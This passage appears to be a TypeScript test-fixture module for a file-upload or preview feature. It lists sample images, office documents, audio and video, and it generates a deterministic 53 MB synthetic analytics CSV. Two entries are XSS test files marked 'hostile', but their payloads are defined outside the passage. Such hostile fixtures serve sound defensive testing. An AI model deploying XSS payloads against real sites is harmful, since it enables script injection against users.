  header.writeUInt32LE(rate, 24);
  header.writeUInt32LE(rate * 2, 28); // byte rate
  header.writeUInt16LE(2, 32); // block align
  header.writeUInt16LE(16, 34); // bits per sample
  header.write('data', 36, 'latin1');
  header.writeUInt32LE(pcm.length, 40);
  return Buffer.concat([header, pcm]);
}

// ---------------------------------------------------------------------------------------------
// Public API

export function sampleFiles(): SampleFile[] {
  return [
    // Images (real pixels, different sizes and aspect ratios)
    { name: 'team-offsite.jpg', type: 'image/jpeg', bytes: fixture('team-offsite.jpg') }, // 1600x1000 photo-like scene
    { name: 'q3-revenue-chart.png', type: 'image/png', bytes: fixture('q3-revenue-chart.png') }, // 1200x750 chart, RGB
    { name: 'inbox-redesign-v2.png', type: 'image/png', bytes: fixture('inbox-redesign-v2.png') }, // 1440x900 UI mock, palette
    { name: 'northern-lights.webp', type: 'image/webp', bytes: fixture('northern-lights.webp') }, // 800x1000 portrait
    { name: 'launch-party.gif', type: 'image/gif', bytes: fixture('launch-party.gif') }, // 480x270, animated, looping
    { name: 'acme-logo.svg', type: 'image/svg+xml', bytes: utf8(ACME_LOGO_SVG) },
    { name: 'xss-test.svg', type: 'image/svg+xml', bytes: utf8(XSS_SVG) }, // hostile
    // Documents
    { name: 'q3-roadmap.pdf', type: 'application/pdf', bytes: roadmapPdf() },
    {
      name: 'project-brief.docx',
      type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      bytes: projectBriefDocx(),
    },
    {
      name: 'budget-2026.xlsx',
      type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      bytes: budgetXlsx(),
    },
    { name: 'meeting-notes.txt', type: 'text/plain', bytes: utf8(MEETING_NOTES) },
    { name: 'launch-plan.csv', type: 'text/csv', bytes: utf8(LAUNCH_PLAN_CSV) },
    {
      name: 'webhook-payload.json',
      type: 'application/json',
      bytes: utf8(JSON.stringify(WEBHOOK_PAYLOAD, null, 2) + '\n'),
    },
    { name: 'xss-test.html', type: 'text/html', bytes: utf8(XSS_HTML) }, // hostile
    { name: 'release-kit.zip', type: 'application/zip', bytes: releaseKitZip() },
    // Audio and video
    { name: 'notification-chime.wav', type: 'audio/wav', bytes: chimeWav() }, // 1.6 s, 16 kHz mono
    { name: 'launch-jingle.mp3', type: 'audio/mpeg', bytes: fixture('launch-jingle.mp3') }, // 6 s, 22.05 kHz mono, ID3v2
    { name: 'product-demo.mp4', type: 'video/mp4', bytes: fixture('product-demo.mp4') }, // 6 s, 480x300 H.264 + AAC
    { name: 'lake-timelapse.webm', type: 'video/webm', bytes: fixture('lake-timelapse.webm') }, // 5 s, 480x300 VP9, no audio
  ];
}

// ---------------------------------------------------------------------------------------------
// The large file: a 50 MB+ CSV export of product analytics events

const LARGE_ROWS = 480_000;
/** Exact byte size of the export; pinned by the test (it must equal the sum of the chunk lengths). */
const LARGE_SIZE = 53_217_743;
const CHUNK_TARGET = 1 << 20;

const EVENT_TYPES = [
  'message.sent',
  'message.sent',
  'message.sent',
  'message.sent',
  'message.read',
  'message.read',
  'message.read',
  'message.read',
  'message.read',
  'reaction.added',
  'reaction.added',
  'file.uploaded',
  'file.downloaded',
  'conversation.opened',
  'conversation.opened',
  'conversation.opened',
  'search.performed',
  'user.signed_in',
  'call.started',
  'call.ended',
  'notification.clicked',
  'channel.joined',
] as const;
const CLIENTS = [
  'web',
  'web',
  'web',
  'desktop-macos',
  'desktop-windows',
  'ios',
  'ios',
  'android',
  'android',
  'api',
] as const;
const COUNTRIES = [
  'US',
  'US',
  'US',
  'GB',
  'DE',
  'DE',
  'FR',
  'NL',
  'ES',
  'IT',
  'SE',
  'PL',
  'IN',
  'IN',
  'BR',
  'CA',
  'AU',
  'JP',
  'SG',
  'IE',
] as const;
const APP_VERSIONS = ['4.12.0', '4.12.1', '4.13.0', '4.13.2', '4.14.0', '5.0.0-rc.3'] as const;

const DAY_MS = 86_400_000;
const TWO_DIGITS = Array.from({ length: 100 }, (_, i) => String(i).padStart(2, '0'));
const THREE_DIGITS = Array.from({ length: 1000 }, (_, i) => String(i).padStart(3, '0'));
const ROWS_PER_WRITE = 64;

function* largeRows(): Generator<Buffer> {
  // mulberry32, integer-only, so every platform produces the same rows.
  let state = 0x5eed2026;
  const rand = (): number => {
    state = (state + 0x6d2b79f5) | 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return (t ^ (t >>> 14)) >>> 0;
  };
  const pick = <T>(items: readonly T[]): T => items[rand() % items.length]!;

  // Timestamps are formatted by hand (same output as toISOString, several times faster).
  let ms = Date.UTC(2026, 0, 1, 0, 0, 0);
  let dayStart = ms;
  let dayPrefix = new Date(dayStart).toISOString().slice(0, 11);
  // Small batches of rows are written straight into a fresh buffer per chunk: much less garbage
  // (and GC time) than building 1 MB strings.
  let chunk = Buffer.alloc(CHUNK_TARGET + ROWS_PER_WRITE * 256);
  let used = 0;
  let batch =
    'event_id,occurred_at,workspace_id,user_id,conversation_id,event_type,client,app_version,country,duration_ms,bytes,success\n';
  for (let i = 1; i <= LARGE_ROWS; i++) {
    ms += rand() % 130_000; // 65 s apart on average: the rows span (almost all of) 2026
    if (ms - dayStart >= DAY_MS) {
      dayStart = ms - (ms % DAY_MS);
      dayPrefix = new Date(dayStart).toISOString().slice(0, 11);
    }
    const tod = ms - dayStart;
    const time = `${dayPrefix}${TWO_DIGITS[Math.floor(tod / 3_600_000)]}:${TWO_DIGITS[Math.floor(tod / 60_000) % 60]}:${TWO_DIGITS[Math.floor(tod / 1000) % 60]}.${THREE_DIGITS[tod % 1000]}Z`;
    const type = pick(EVENT_TYPES);
    const duration = type === 'call.ended' ? 30_000 + (rand() % 3_600_000) : 8 + (rand() % 900);
    const bytes =
      type === 'file.uploaded' || type === 'file.downloaded' ? 1024 + (rand() % 25_000_000) : 120 + (rand() % 3800);
    batch +=
      `evt_${i.toString(36).padStart(6, '0')},${time},ws_${rand() % 1800},usr_${rand() % 250_000},` +
      `conv_${(rand() % 2_000_000).toString(36)},${type},${pick(CLIENTS)},${pick(APP_VERSIONS)},${pick(COUNTRIES)},` +
      `${duration},${bytes},${rand() % 200 === 0 ? 'false' : 'true'}\n`;
    if (i % ROWS_PER_WRITE === 0 || i === LARGE_ROWS) {
      used += chunk.write(batch, used, 'latin1');
      batch = '';
      if (used >= CHUNK_TARGET || i === LARGE_ROWS) {
        yield chunk.subarray(0, used);
        chunk = Buffer.alloc(CHUNK_TARGET + ROWS_PER_WRITE * 256);
        used = 0;
      }
    }
  }
}

function* largeChunks(): Generator<Buffer> {
  let total = 0;
  for (const chunk of largeRows()) {
    total += chunk.length;
    yield chunk;
  }
  // LARGE_SIZE is pinned to what the generator produces; fail loudly if the two ever drift apart.
  if (total !== LARGE_SIZE) throw new Error(`events-export-2026.csv: generated ${total} bytes, expected ${LARGE_SIZE}`);
}

export function largeSampleFile(): LargeSampleFile {
  return { name: 'events-export-2026.csv', type: 'text/csv', size: LARGE_SIZE, chunks: largeChunks };
}
